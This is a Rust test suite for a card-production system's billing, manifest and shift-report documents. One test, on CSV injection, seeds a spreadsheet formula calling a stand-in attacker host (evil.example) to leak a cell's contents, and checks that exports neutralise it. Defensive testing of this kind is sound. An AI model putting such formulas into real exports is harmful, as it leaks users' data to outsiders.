mod common;

use std::collections::BTreeMap;

use cardbench_documents::{BillingConfig, ShiftConfig, ShiftDef, billing, manifest, shift_report};
use cardbench_protocol::Accessory;
use cardbench_store::{Store, StoreError};
use common::*;

const DAY: &str = "2026-11-23T00:00:00.000Z";

/// Two organisations, two operators, two shifts; a spoil, a REPORT_OK, an error, parcels.
fn seed(store: &Store) -> Vec<String> {
    store
        .write(|tx| {
            let mut all = Vec::new();
            // ORG-Malmö: 4 cards of ART-A ordered 11-20, 2 of ART-B ordered 11-21.
            for (i, (article, ordered)) in [
                ("ART-A", "2026-11-20T09:00:00+01:00"),
                ("ART-A", "2026-11-20T09:00:00+01:00"),
                ("ART-A", "2026-11-20T09:00:00+01:00"),
                ("ART-A", "2026-11-20T09:00:00+01:00"),
                ("ART-B", "2026-11-21T12:00:00+01:00"),
                ("ART-B", "2026-11-21T12:00:00+01:00"),
            ]
            .into_iter()
            .enumerate()
            {
                let id = format!("M-{i}");
                let mut req = request("ORG-Malmö", "SHP-M", &id, article, NAMES[i % NAMES.len()], ordered);
                if i == 0 {
                    req.accessories = vec![Accessory { article_id: "ACC-LANYARD".into(), accessory_id: "LY".into(), quantity: 5 }];
                }
                receive(tx, &req, &t(DAY, 6 * 60 + 10)); // 06:10, early shift
                all.push(id);
            }
            // ORG-Łódź: 3 cards of ART-A.
            for i in 0..3 {
                let id = format!("L-{i}");
                receive(tx, &request("ORG-Łódź", "SHP-L", &id, "ART-A", "Łucja Żak", "2026-11-22T08:00:00Z"), &t(DAY, 14 * 60 + 5));
                all.push(id);
            }
            // Early shift (06:00–14:00): anna produces M-0..M-5 at 07:xx, spoils M-5 and redoes it at 09:xx.
            for i in 0..6 {
                produce(tx, "anna", &format!("M-{i}"), "SHP-M", &t(DAY, 7 * 60 + i));
            }
            spoil(tx, "anna", "M-5", "SHP-M", &t(DAY, 8 * 60));
            produce(tx, "anna", "M-5", "SHP-M", &t(DAY, 9 * 60));
            for i in 0..6 {
                report_ok(tx, &format!("M-{i}"), "SHP-M", &t(DAY, 10 * 60 + i));
            }
            let m: Vec<String> = (0..6).map(|i| format!("M-{i}")).collect();
            ship(tx, "björn", "SHP-M", &m[..4], &[Accessory { article_id: "ACC-LANYARD".into(), accessory_id: "LY".into(), quantity: 5 }], Some("DHL"), Some("JJD-1"), &t(DAY, 11 * 60));
            ship(tx, "björn", "SHP-M", &m[4..], &[], Some("UPS"), None, &t(DAY, 11 * 60 + 30));
            // Late shift (14:00–22:00): björn produces the Łódź cards at 15:xx; one gets an ERROR.
            for i in 0..3 {
                produce(tx, "björn", &format!("L-{i}"), "SHP-L", &t(DAY, 15 * 60 + i));
            }
            report_ok(tx, "L-0", "SHP-L", &t(DAY, 16 * 60));
            report_ok(tx, "L-1", "SHP-L", &t(DAY, 16 * 60 + 1));
            report_error(tx, "L-2", "SHP-L", &t(DAY, 16 * 60 + 2));
            // Next day, outside every period below: must not count.
            receive(tx, &request("ORG-Łódź", "SHP-L", "L-9", "ART-A", "X", "2026-11-22T08:00:00Z"), "2026-11-24T07:00:00.000Z");
            produce(tx, "anna", "L-9", "SHP-L", "2026-11-24T07:05:00.000Z");
            report_ok(tx, "L-9", "SHP-L", "2026-11-24T07:06:00.000Z");
            Ok::<_, StoreError>(all)
        })
        .expect("seed")
}

fn read_csv(path: &std::path::Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_path(path).expect("csv");
    r.records().map(|rec| rec.expect("record").iter().map(str::to_owned).collect()).collect()
}

#[test]
fn billing_writes_one_csv_per_organisation_matching_the_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(&dir.path().join("data"));
    seed(&store);
    let config = BillingConfig {
        cost_centres: BTreeMap::from([("ORG-Malmö".into(), "CC-100".into()), ("ORG-Łódź".into(), "CC-200".into())]),
        default_cost_centre: None,
        invoice_prefix: "CB-".into(),
    };
    let out = dir.path().join("billing");
    let files = billing(&store, "2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z", &config, &out).expect("billing");
    assert_eq!(files.len(), 2, "one file per organisation");

    let by_org: BTreeMap<&str, &cardbench_documents::billing::BillingFile> = files.iter().map(|f| (f.organisation_id.as_str(), f)).collect();
    let malmo = read_csv(&by_org["ORG-Malmö"].path);
    let lodz = read_csv(&by_org["ORG-Łódź"].path);
    for rows in [&malmo, &lodz] {
        assert_eq!(rows[0], ["COSTCENTRE", "INVOICENUMBER", "ARTICLENUMBER", "QUANTITY", "ORDERDATE"]);
    }
    let inv_m = by_org["ORG-Malmö"].invoice_number.clone();
    let inv_l = by_org["ORG-Łódź"].invoice_number.clone();
    assert_ne!(inv_m, inv_l, "one invoice number per organisation");
    let row = |cc: &str, inv: &str, art: &str, q: &str, d: &str| vec![cc.to_owned(), inv.to_owned(), art.to_owned(), q.to_owned(), d.to_owned()];
    // Malmö: accessories shipped (5 lanyards, shipment ordered 11-20), 4 × ART-A (11-20), 2 × ART-B (11-21).
    // M-5 was spoiled and redone: billed once.
    assert_eq!(
        malmo[1..],
        [
            row("CC-100", &inv_m, "ACC-LANYARD", "5", "2026-11-20"),
            row("CC-100", &inv_m, "ART-A", "4", "2026-11-20"),
            row("CC-100", &inv_m, "ART-B", "2", "2026-11-21"),
        ]
    );
    // Łódź: L-0, L-1 accepted; L-2 got an ERROR (not billed); L-9 is next day's.
    assert_eq!(lodz[1..], [row("CC-200", &inv_l, "ART-A", "2", "2026-11-22")]);

    // Cross-check against the store row by row: each card line is the count of REPORT_OK'd cards.
    store
        .read(|c| {
            for line in &malmo[1..] {
                if line[2].starts_with("ART") {
                    let n: i64 = c.query_row(
                        "SELECT COUNT(*) FROM cards WHERE organisation_id = 'ORG-Malmö' AND article_id = ?1
                         AND report_ok_at >= '2026-11-23' AND report_ok_at < '2026-11-24' AND substr(ordered_at,1,10) = ?2",
                        [&line[2], &line[4]],
                        |r| r.get(0),
                    )?;
                    assert_eq!(n.to_string(), line[3], "{line:?}");
                }
            }
            let shipped: i64 = c.query_row("SELECT SUM(quantity) FROM parcel_accessories WHERE article_id = 'ACC-LANYARD'", [], |r| r.get(0))?;
            assert_eq!(shipped.to_string(), malmo[1][3]);
            Ok::<_, StoreError>(())
        })
        .expect("cross-check");

    // The counter persists: a second run gets new numbers, never the same.
    let again = billing(&store, "2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z", &config, &dir.path().join("b2")).expect("again");
    let mut numbers: Vec<String> = files.iter().chain(&again).map(|f| f.invoice_number.clone()).collect();
    numbers.sort();
    numbers.dedup();
    assert_eq!(numbers.len(), 4, "{numbers:?}");
    if cardbench_store::testing::on_postgres() {
        return; // each open is a new schema there; the restart below is the one machine's file
    }
    drop(store);
    let reopened = open(&dir.path().join("data"));
    let third = billing(&reopened, "2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z", &config, &dir.path().join("b3")).expect("third");
    assert!(third.iter().all(|f| !numbers.contains(&f.invoice_number)), "numbers survive a restart");
    assert!(third.iter().any(|f| f.invoice_number == "CB-000005"), "{third:?}");
}

#[test]
fn an_organisation_without_cost_centre_is_billed_under_the_placeholder_and_listed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(dir.path());
    seed(&store);
    let config = BillingConfig {
        cost_centres: BTreeMap::from([("ORG-Malmö".into(), "CC-100".into())]),
        default_cost_centre: None,
        invoice_prefix: String::new(),
    };
    let files = billing(&store, "2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z", &config, &dir.path().join("b")).expect("billed");
    let lodz = files.iter().find(|f| f.organisation_id == "ORG-Łódź").expect("Łódź billed");
    assert!(lodz.cost_centre_missing);
    assert_eq!(lodz.cost_centre, cardbench_documents::billing::NO_COST_CENTRE);
    assert!(read_csv(&lodz.path).iter().skip(1).all(|row| row[0] == "NO-COST-CENTRE"), "{:?}", read_csv(&lodz.path));
    let malmo = files.iter().find(|f| f.organisation_id == "ORG-Malmö").expect("Malmö billed");
    assert!(!malmo.cost_centre_missing && malmo.cost_centre == "CC-100");
    let issued: i64 = store.read(|c| c.query_row("SELECT COUNT(*) FROM invoices", [], |r| r.get(0)).map_err(StoreError::from)).expect("count");
    assert_eq!(issued, 2, "both organisations got an invoice");
}

#[test]
fn period_documents_name_what_was_written_before_a_step_failed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(dir.path());
    seed(&store);
    let out = dir.path().join("period");
    // The shift report's PDF path is taken by a directory: the third step fails.
    let from = "2026-11-23T00:00:00.000Z";
    let to = "2026-11-24T00:00:00.000Z";
    std::fs::create_dir_all(cardbench_documents::api::shift_report_path(&out, from, to)).expect("block the shift report");
    let config = cardbench_documents::DocumentsConfig::default();
    let steps = std::cell::RefCell::new(Vec::new());
    let err = cardbench_documents::period_documents(&store, from, to, &config, &out, &|n, of, name| steps.borrow_mut().push(format!("{n}/{of} {name}")))
        .expect_err("the shift report cannot be written");
    assert_eq!(*steps.borrow(), ["1/3 manifest", "2/3 billing", "3/3 shift report"]);
    let text = err.to_string();
    assert!(text.starts_with("the shift report could not be written"), "{text}");
    assert!(text.contains("manifest_2026-11-23_2026-11-24.pdf") && text.contains("billing_ORG-Malm"), "{text}");
}

#[test]
fn manifest_lists_every_parcel_of_the_period_in_pdf_and_csv() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(dir.path());
    seed(&store);
    let out = dir.path().join("manifest");
    let files = manifest(&store, "2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z", "Kartenbüro Nord", &out).expect("manifest");
    let rows = read_csv(&files[1]);
    assert_eq!(rows[0], ["PARCEL", "CREATED", "CARRIER", "TRACKINGID", "SHIPMENTID", "ORGANISATION", "CARDS", "ACCESSORIES", "STATUS"]);
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][2..8], ["DHL", "JJD-1", "SHP-M", "ORG-Malmö", "4", "5"]);
    assert_eq!(rows[2][2..8], ["UPS", "", "SHP-M", "ORG-Malmö", "2", "0"]);
    assert_eq!(pdf_pages(&files[0]), 1);
    let text = pdf_text(&files[0]);
    for s in ["JJD-1", "SHP-M", "ORG-Malmö", "UPS", "2 parcels", "page 1 of 1"] {
        assert!(text.contains(s), "{s} missing:\n{text}");
    }
}

#[test]
fn shift_report_counts_per_operator_and_shift() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(dir.path());
    seed(&store);
    let config = ShiftConfig {
        shifts: vec![ShiftDef { name: "early".into(), start: "06:00".into() }, ShiftDef { name: "late".into(), start: "14:00".into() }],
        utc_offset_minutes: 0,
    };
    let out = dir.path().join("shift.pdf");
    let files = shift_report(&store, "2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z", &config, "Kartenbüro Nord", &out).expect("report");
    let rows = read_csv(&files[1]);
    assert_eq!(rows[0], ["SHIFTDATE", "SHIFT", "STATION", "OPERATOR", "RECEIVED", "PRODUCED", "SPOILED", "REPORT_OK", "ERRORS", "SHIPPED"]);
    // Seeded without station names (as a store written before they existed): the column is blank.
    let r = |d: &str, s: &str, o: &str, c: [&str; 6]| {
        let mut v = vec![d.to_owned(), s.to_owned(), String::new(), o.to_owned()];
        v.extend(c.iter().map(|x| (*x).to_owned()));
        v
    };
    assert_eq!(
        rows[1..],
        [
            r("2026-11-23", "early", "anna", ["", "7", "1", "6", "0", "0"]),
            r("2026-11-23", "early", "björn", ["", "0", "0", "0", "0", "6"]),
            r("2026-11-23", "early", "(all)", ["6", "7", "1", "6", "0", "6"]),
            r("2026-11-23", "late", "björn", ["", "3", "0", "2", "1", "0"]),
            r("2026-11-23", "late", "(all)", ["3", "3", "0", "2", "1", "0"]),
        ]
    );
    let text = pdf_text(&files[0]);
    for s in ["Shift report", "Cards produced per hour", "anna", "björn", "REPORT_OK", "page 1 of 1"] {
        assert!(text.contains(s), "{s} missing:\n{text}");
    }
    let png = dir.path().join("shift");
    run("pdftoppm", &["-png", "-r", "80", "-f", "1", "-l", "1", out.to_str().expect("p"), png.to_str().expect("p")]);
    assert!(dir.path().join("shift-1.png").exists());
    if let Ok(keep) = std::env::var("CARDBENCH_KEEP_DOCS") {
        let _ = std::fs::create_dir_all(&keep);
        let _ = std::fs::copy(dir.path().join("shift-1.png"), std::path::Path::new(&keep).join("shift-1.png"));
        let _ = std::fs::copy(&files[0], std::path::Path::new(&keep).join("manifest-or-shift.pdf"));
    }
}

/// Issue 15: on a floor the shift report says which station did what. Two stores on one file
/// stand for two stations (each store names its station; the audit rows its writes record say
/// so): anna works at LINE-1, björn at LINE-2, and björn also spends a while at LINE-1.
#[test]
fn shift_report_says_which_station_did_what() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (line1, line2) = cardbench_store::testing::two_stores_in(dir.path()).expect("two stations on one database");
    line1.set_station("LINE-1");
    line2.set_station("LINE-2");
    let at = |minutes: i64| t(DAY, 7 * 60 + minutes);
    line1
        .write(|tx| {
            for i in 0..5 {
                receive(tx, &request("ORG-Malmö", "SHP-S", &format!("S-{i}"), "ART-A", "Anna Ek", "2026-11-20T09:00:00Z"), &t(DAY, 6 * 60 + 5));
            }
            produce(tx, "anna", "S-0", "SHP-S", &at(1));
            produce(tx, "anna", "S-1", "SHP-S", &at(2));
            produce(tx, "björn", "S-4", "SHP-S", &at(3));
            Ok::<_, StoreError>(())
        })
        .expect("line 1");
    line2
        .write(|tx| {
            produce(tx, "björn", "S-2", "SHP-S", &at(4));
            produce(tx, "björn", "S-3", "SHP-S", &at(5));
            Ok::<_, StoreError>(())
        })
        .expect("line 2");
    line1
        .write(|tx| {
            for id in ["S-0", "S-2", "S-3", "S-4"] {
                report_ok(tx, id, "SHP-S", &at(20));
            }
            report_error(tx, "S-1", "SHP-S", &at(21));
            Ok::<_, StoreError>(())
        })
        .expect("answers");
    line2
        .write(|tx| {
            let cards: Vec<String> = ["S-0", "S-2", "S-3", "S-4"].map(String::from).to_vec();
            ship(tx, "björn", "SHP-S", &cards, &[], Some("DHL"), None, &at(30));
            Ok::<_, StoreError>(())
        })
        .expect("parcel");
    let config = ShiftConfig { shifts: vec![ShiftDef { name: "early".into(), start: "06:00".into() }], utc_offset_minutes: 0 };
    let out = dir.path().join("shift.pdf");
    let files = shift_report(&line1, DAY, "2026-11-24T00:00:00.000Z", &config, "Kartenbüro Nord", &out).expect("report");
    let rows = read_csv(&files[1]);
    let r = |station: &str, operator: &str, c: [&str; 6]| {
        let mut v = vec!["2026-11-23".to_owned(), "early".to_owned(), station.to_owned(), operator.to_owned()];
        v.extend(c.iter().map(|x| (*x).to_owned()));
        v
    };
    assert_eq!(
        rows[1..],
        [
            // received, produced, spoiled, REPORT_OK, errors, shipped
            r("LINE-1", "anna", ["", "2", "0", "1", "1", "0"]),
            r("LINE-1", "björn", ["", "1", "0", "1", "0", "0"]),
            r("LINE-2", "björn", ["", "2", "0", "2", "0", "4"]),
            r("", "(all)", ["5", "5", "0", "4", "1", "4"]),
        ]
    );
    let text = pdf_text(&files[0]);
    for s in ["Station", "LINE-1", "LINE-2"] {
        assert!(text.contains(s), "{s} missing:\n{text}");
    }
}

#[test]
fn a_card_spoiled_after_report_ok_and_made_again_is_billed_once() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(&dir.path().join("data"));
    const DAY2: &str = "2026-11-24T00:00:00.000Z";
    store
        .write(|tx| {
            for id in ["R-0", "R-1"] {
                receive(tx, &request("ORG-Umeå", "SHP-R", id, "ART-A", "Rökkvi Þór", "2026-11-22T08:00:00Z"), &t(DAY, 60));
                produce(tx, "anna", id, "SHP-R", &t(DAY, 70));
                report_ok(tx, id, "SHP-R", &t(DAY, 80));
            }
            // Next day R-0's chip dies before it ships: spoiled, made again, accepted again.
            spoil(tx, "anna", "R-0", "SHP-R", &t(DAY2, 60));
            produce(tx, "anna", "R-0", "SHP-R", &t(DAY2, 70));
            report_ok(tx, "R-0", "SHP-R", &t(DAY2, 80));
            Ok::<_, StoreError>(())
        })
        .expect("seed");
    let config = BillingConfig { cost_centres: BTreeMap::new(), default_cost_centre: Some("CC-9".into()), invoice_prefix: "CB-".into() };
    let day1 = billing(&store, DAY, DAY2, &config, &dir.path().join("d1")).expect("day 1");
    assert_eq!(day1.len(), 1);
    assert_eq!(read_csv(&day1[0].path)[1][3], "2", "both cards accepted on day 1");
    let day2 = billing(&store, DAY2, "2026-11-25T00:00:00.000Z", &config, &dir.path().join("d2")).expect("day 2");
    assert!(day2.is_empty(), "R-0's second acceptance is not billed again, and no number is taken: {day2:?}");
}

/// Ids NGOC sent that a spreadsheet would run as formulas: quoted in every CSV; and every
/// document written 0600 in directories made 0700 (they hold names and addresses).
#[test]
fn csv_cells_that_look_like_formulas_are_quoted_and_documents_are_private() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(&dir.path().join("data"));
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let (org, shipment, article) = ("@ORG-1", "-SHP-1", "+ART-1");
    let parcel = store
        .write(|tx| {
            receive(tx, &request(org, shipment, "C-1", article, evil, "2026-11-22T08:00:00Z"), &t(DAY, 60));
            produce(tx, "=anna", "C-1", shipment, &t(DAY, 7 * 60));
            report_ok(tx, "C-1", shipment, &t(DAY, 8 * 60));
            Ok::<_, StoreError>(ship(tx, "=anna", shipment, &["C-1".to_owned()], &[], Some("DHL"), Some(evil), &t(DAY, 9 * 60)))
        })
        .expect("seed");
    let (from, to) = ("2026-11-23T00:00:00.000Z", "2026-11-24T00:00:00.000Z");
    let out = dir.path().join("documents/period");
    let config = BillingConfig { default_cost_centre: Some("=CC".into()), ..Default::default() };
    let bills = billing(&store, from, to, &config, &out).expect("billing");
    let manifest_files = manifest(&store, from, to, "Kartenbüro", &out).expect("manifest");
    let shift = shift_report(&store, from, to, &ShiftConfig::default(), "Kartenbüro", &out.join("shift.pdf")).expect("shift");
    let slips = cardbench_documents::slip(&store, &cardbench_documents::SlipTarget::Parcel(parcel), &Default::default(), &dir.path().join("documents/slips/s.pdf")).expect("slip");

    let billed = read_csv(&bills[0].path);
    assert_eq!(billed[1][..3], ["'=CC".to_owned(), bills[0].invoice_number.clone(), format!("'{article}")]);
    let listed = read_csv(&manifest_files[1]);
    assert_eq!(listed[1][3..6], [format!("'{evil}"), format!("'{shipment}"), format!("'{org}")]);
    let shifts = read_csv(&shift[1]);
    assert!(shifts[1..].iter().any(|r| r[3] == "'=anna"), "{shifts:?}");
    for csv in [&bills[0].path, &manifest_files[1], &shift[1]] {
        let text = std::fs::read_to_string(csv).expect("read");
        assert!(!text.lines().any(|l| l.split(',').any(|c| c.trim_start_matches('"').starts_with(['=', '+', '-', '@']))), "{}:\n{text}", csv.display());
    }

    let mode = |p: &std::path::Path| std::fs::metadata(p).expect("stat").permissions().mode() & 0o777;
    for file in bills.iter().map(|b| b.path.clone()).chain(manifest_files).chain(shift).chain(slips) {
        assert_eq!(mode(&file), 0o600, "{}", file.display());
    }
    for made in [dir.path().join("documents"), out, dir.path().join("documents/slips")] {
        assert_eq!(mode(&made), 0o700, "{}", made.display());
    }
}

// ---- the dashboard's production chart (issue 17) ---------------------------------------------

use cardbench_documents::shift::{self, Period};

fn at(text: &str) -> chrono::DateTime<chrono::Utc> {
    chrono::DateTime::parse_from_rfc3339(text).expect("time").to_utc()
}

#[test]
fn the_shift_and_the_week_under_way_come_from_the_configured_shifts() {
    // Early 06:00, late 14:00, night 22:00, one hour ahead of UTC.
    let config = ShiftConfig { utc_offset_minutes: 60, ..ShiftConfig::default() };
    let b = shift::period_bounds(&config, Period::Shift, at("2026-11-25T10:30:00Z")).expect("bounds");
    assert_eq!((b.name.as_str(), b.from, b.to), ("early 2026-11-25", at("2026-11-25T05:00:00Z"), at("2026-11-25T13:00:00Z")));
    // 01:30 local on Thursday is still Wednesday's night shift, until 06:00.
    let b = shift::period_bounds(&config, Period::Shift, at("2026-11-26T00:30:00Z")).expect("bounds");
    assert_eq!((b.name.as_str(), b.from, b.to), ("night 2026-11-25", at("2026-11-25T21:00:00Z"), at("2026-11-26T05:00:00Z")));
    let b = shift::period_bounds(&config, Period::Week, at("2026-11-25T10:30:00Z")).expect("bounds");
    assert_eq!((b.from, b.to), (at("2026-11-23T05:00:00Z"), at("2026-11-30T05:00:00Z")), "{}", b.name);
    assert!(b.name.contains("2026-W48"), "{}", b.name);
    // Monday 03:00 local belongs to Sunday's night shift, so to the week before.
    let b = shift::period_bounds(&config, Period::Week, at("2026-11-30T02:00:00Z")).expect("bounds");
    assert_eq!((b.from, b.to), (at("2026-11-23T05:00:00Z"), at("2026-11-30T05:00:00Z")));
    let bad = ShiftConfig { shifts: vec![], ..ShiftConfig::default() };
    assert!(shift::period_bounds(&bad, Period::Shift, at("2026-11-25T10:30:00Z")).is_err());
}

#[test]
fn the_hourly_figures_count_what_the_shift_report_counts() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = open(dir.path());
    seed(&store);
    let config = ShiftConfig {
        shifts: vec![ShiftDef { name: "early".into(), start: "06:00".into() }, ShiftDef { name: "late".into(), start: "14:00".into() }],
        utc_offset_minutes: 0,
    };
    let early = store.read(|c| shift::hourly(c, at("2026-11-23T06:00:00Z"), at("2026-11-23T14:00:00Z"), &config)).expect("hourly");
    assert_eq!(early.len(), 8, "one bar per hour of the shift, empty ones too");
    assert_eq!(early[0].hour, at("2026-11-23T06:00:00Z"));
    let figures: Vec<(u64, u64, u64)> = early.iter().map(|h| (h.produced, h.report_ok, h.errors)).collect();
    // 07:xx six produced, 09:00 the redone one, 10:xx six REPORT_OK.
    assert_eq!(figures, [(0, 0, 0), (6, 0, 0), (0, 0, 0), (1, 0, 0), (0, 6, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0)]);
    let day = store.read(|c| shift::hourly(c, at("2026-11-23T00:00:00Z"), at("2026-11-24T00:00:00Z"), &config)).expect("hourly");
    let total = |f: fn(&shift::HourFigures) -> u64| day.iter().map(f).sum::<u64>();
    // The same figures as the shift report's (all) rows for that day: 7 + 3 produced, 6 + 2 REPORT_OK, 1 error.
    assert_eq!((total(|h| h.produced), total(|h| h.report_ok), total(|h| h.errors)), (10, 8, 1));
    assert_eq!(day[16].errors, 1, "the error at 16:02");
    // Local hours: one hour ahead, the 07:xx UTC production lands in the 08:00 local hour.
    let ahead = ShiftConfig { utc_offset_minutes: 60, ..config.clone() };
    let local = store.read(|c| shift::hourly(c, at("2026-11-23T05:00:00Z"), at("2026-11-23T13:00:00Z"), &ahead)).expect("hourly");
    assert_eq!(local[0].hour, at("2026-11-23T05:00:00Z"));
    assert_eq!(local[2].produced, 6, "07:00–08:00 UTC is the third hour of a shift starting 05:00 UTC");
    // A half-hour offset: hours still start on the local hour.
    let odd = ShiftConfig { utc_offset_minutes: 330, ..config };
    let h = store.read(|c| shift::hourly(c, at("2026-11-23T06:40:00Z"), at("2026-11-23T08:00:00Z"), &odd)).expect("hourly");
    assert_eq!(h[0].hour, at("2026-11-23T06:30:00Z"), "12:00 local");
    assert_eq!(h.iter().map(|h| h.produced).sum::<u64>(), 6, "07:00–07:05 UTC is 12:30 local");
}
